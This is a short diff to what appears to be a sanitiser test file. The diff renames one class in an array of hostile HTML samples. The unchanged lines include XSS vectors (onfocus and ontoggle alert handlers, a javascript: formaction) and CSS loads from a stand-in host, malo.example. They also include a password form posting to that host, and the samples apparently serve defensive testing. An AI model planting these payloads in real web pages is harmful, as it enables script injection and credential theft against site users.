@@ -57,7 +57,7 @@ const hostileHtml = [
   '<style>@import "https://malo.example/a.css";</style>',
   '<p style="background:url(https://malo.example/a.png)">a</p>',
   '<p style="position:fixed;top:0;left:0;width:100%;height:100%">a</p>',
-  '<p class="mantine-Modal-root" id="root">a</p>',
+  '<p class="site-modal" id="root">a</p>',
   '<form action="https://malo.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
   '<input autofocus onfocus=alert(1)>',
   '<details open ontoggle=alert(1)>',
